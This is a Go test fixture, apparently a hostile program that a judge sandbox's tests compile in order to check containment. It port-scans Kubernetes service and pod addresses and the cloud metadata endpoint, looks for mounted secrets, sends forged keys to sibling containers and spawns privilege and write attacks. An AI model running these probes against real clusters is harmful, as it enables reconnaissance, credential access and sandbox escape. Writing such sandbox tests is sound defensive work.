//go:build attack

// Command attack is what a learner hands in who attacks the judge: it tries all that the hostile program of package sandboxtest
// does, which sandbox_test.go compiles together with this file, and connects to whatever may be near. It prints "did ..." for whatever works.
package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"slices"
	"sync"
	"time"
)

func init() {
	switch {
	case os.Getenv("ATTACKS") != "":
		return // main does one of them
	case slices.Contains(os.Args, "-h"):
		os.Exit(0)
	}
	var wait sync.WaitGroup
	wait.Go(near) // which mostly waits, and there is as long for it all as a manager may take that is never ready
	claims()
	if _, err := os.Stat("/var/run/secrets"); err == nil {
		fmt.Println("did see secrets")
	}
	for _, attack := range [][]string{{"rise"}, {"write"}, {"TAKES", "1"}} {
		cmd := exec.Command("/proc/self/exe", attack...)
		cmd.Env = append(os.Environ(), "ATTACKS=1")
		out, err := cmd.CombinedOutput()
		fmt.Printf("%s: %v\n%s", attack[0], err, out[:min(len(out), 10_000)])
	}
	wait.Wait()
	fmt.Println("attacked")
	time.Sleep(time.Hour)
}

// own is the address of this Pod, which stands in its /etc/hosts.
func own() string {
	name, err := os.Hostname()
	if err != nil {
		return ""
	}
	addresses, err := net.LookupHost(name)
	if err != nil {
		return ""
	}
	return addresses[0]
}

// near connects to all that may be near, at once: other Pods, judges among them, the node, the API servers, the internet.
func near() {
	hosts := []string{"10.96.0.1", "10.96.0.10", "169.254.169.254", "1.1.1.1", "NODE"}
	for n := range 256 {
		hosts = append(hosts, fmt.Sprintf("10.244.0.%d", n))
	}
	ports := []int{22, 53, 80, 443, 2379, 6443, 8080, 8443, 9443, 10250, 10257, 10259, 7000, 7001, 7010, 7016}
	var wait sync.WaitGroup
	at := make(chan struct{}, 100) // more sockets are too many
	mine := own()
	for _, host := range hosts {
		if host == mine {
			continue
		}
		for _, port := range ports {
			at <- struct{}{}
			wait.Go(func() {
				defer func() { <-at }()
				if conn, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", host, port), 200*time.Millisecond); err == nil {
					fmt.Printf("did connect to %s:%d\n", host, port)
					conn.Close()
				}
			})
		}
	}
	wait.Wait()
}

// claims tries to give orders to the containers of this Pod, with a key of its own.
func claims() {
	heard := 0
	for port := 7000; port < 7017; port++ {
		dialer := &net.Dialer{Timeout: time.Second}
		conn, err := tls.DialWithDialer(dialer, "tcp", fmt.Sprintf("127.0.0.1:%d", port), &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			continue
		}
		heard++
		_ = conn.SetDeadline(time.Now().Add(time.Second))
		_, _ = conn.Write(bytes.Repeat([]byte("k"), 32))
		if n, err := conn.Read(make([]byte, 1)); n > 0 || errors.Is(err, os.ErrDeadlineExceeded) {
			fmt.Printf("did get into the container at %d\n", port)
		}
		conn.Close()
	}
	fmt.Printf("greeted %d containers\n", heard)
}
